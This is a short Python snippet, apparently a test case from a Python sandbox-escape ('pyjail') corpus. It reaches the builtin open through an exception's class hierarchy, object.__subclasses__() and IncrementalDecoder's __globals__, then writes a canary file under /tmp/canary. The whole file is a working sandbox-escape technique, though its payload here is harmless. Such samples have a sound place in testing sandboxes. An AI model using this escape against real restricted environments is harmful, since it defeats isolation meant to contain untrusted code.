# source: pyjail lore
# effect: write

try:
    1 / 0
except ArithmeticError as error:
    top = error.__class__.__mro__[-1]
for kind in top.__subclasses__():
    if kind.__name__ == "IncrementalDecoder":
        break
table = kind.decode.__globals__
table["open"]("/tmp/canary/written", "w").write("subclasses/from_exception_type")
